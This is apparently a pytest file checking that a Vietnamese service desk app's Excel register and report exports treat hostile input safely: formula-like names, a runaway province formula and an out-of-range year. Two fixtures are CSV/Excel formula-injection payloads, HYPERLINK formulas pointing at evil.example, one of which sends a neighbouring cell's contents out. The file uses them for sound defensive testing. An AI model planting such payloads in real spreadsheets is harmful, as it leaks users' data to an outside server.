"""Hostile input to the reports (found by an adversarial pass): names that look like Excel
formulas, a province's runaway formula, a period no month box allows, and what a desk's report
covers."""

from __future__ import annotations

import json
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from desk_app.clock import FixedClock
from desk_app.errors import ValidationError
from desk_app.printing.report_export import register_xlsx, report_xlsx
from desk_app.services import intake, reports
from desk_app.store.engine import Store
from desk_app.store.models import Setting
from tests.helpers import complete_request
from tests.rating.conftest import CLERK, LEADER

NOV = date(2026, 11, 1)
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&INDIRECT("E"&ROW()),"Nguyễn Văn An")'


def test_citizen_name_is_never_an_excel_formula_in_the_register(
        store: Store, clock: FixedClock, tmp_path: Path) -> None:
    """A citizen's name is text: the register's Excel file must not turn it into a formula
    (CSV/Excel formula injection: a link that sends the next cell to a server when clicked)."""
    with store.write() as s:
        intake.receive(s, clock, CLERK, complete_request(s, full_name=FORMULA_NAME))
    out = tmp_path / "so.xlsx"
    with store.read() as s:
        register_xlsx(s, clock, out, NOV, date(2026, 11, 30))
    ws = load_workbook(out).active
    cells = [c for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and c.value.startswith(FORMULA_NAME)]
    assert cells, "the name is in the file"
    assert all(c.data_type != "f" for c in cells), [(c.coordinate, c.data_type) for c in cells]


def test_clerk_name_is_never_an_excel_formula_in_the_report(
        store: Store, clock: FixedClock, tmp_path: Path) -> None:
    from sqlalchemy import text
    with store.write() as s:
        s.execute(text("UPDATE clerks SET full_name = :n WHERE id = :i"),
                  {"n": '=HYPERLINK("http://evil.example","Bình")', "i": CLERK})
        intake.receive(s, clock, CLERK, complete_request(s))
    with store.read() as s:
        rep = reports.build_report(s, clock, LEADER, NOV, NOV)
    out = tmp_path / "r.xlsx"
    report_xlsx(rep, out)
    ws = load_workbook(out)["Theo công chức"]
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row), \
        [(c.coordinate, c.value) for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_a_provinces_long_formula_falls_back_instead_of_crashing(
        store: Store, clock: FixedClock) -> None:
    """README: 'a broken one falls back to the bundled file with a note on screen'."""
    from desk_app.core.indicators import default_index_path
    data = json.loads(default_index_path().read_text(encoding="utf-8"))
    data["groups"][1]["formula"] = "+".join(["received"] * 5000) + " / received"
    with store.write() as s:
        s.add(Setting(key=reports.INDEX_SETTING, value=json.dumps(data)))
    with store.read() as s:
        rep = reports.build_report(s, clock, LEADER, NOV, NOV)  # must not raise
    assert rep.index_problem


def test_a_report_of_a_year_no_month_box_allows_is_refused(
        store: Store, clock: FixedClock) -> None:
    """'9999-12' + 1 month is '10000-01', before it as text: the period is bounded instead."""
    with store.read() as s, pytest.raises(ValidationError) as info:
        reports.build_report(s, clock, LEADER, date(9999, 12, 1), date(9999, 12, 1))
    assert [(e.field, e.code) for e in info.value.errors] == [("period", "out_of_range")]


def test_a_report_says_it_counts_this_pc_only(store: Store, clock: FixedClock,
                                              tmp_path: Path) -> None:
    with store.read() as s:
        rep = reports.build_report(s, clock, LEADER, NOV, NOV)
    assert rep.counter == 1  # the template desk is counter 1
    report_xlsx(rep, tmp_path / "r.xlsx")
    texts = [c.value for row in load_workbook(tmp_path / "r.xlsx")["Tổng hợp"].iter_rows()
             for c in row if isinstance(c.value, str)]
    assert any("máy này (quầy số 1)" in t for t in texts)
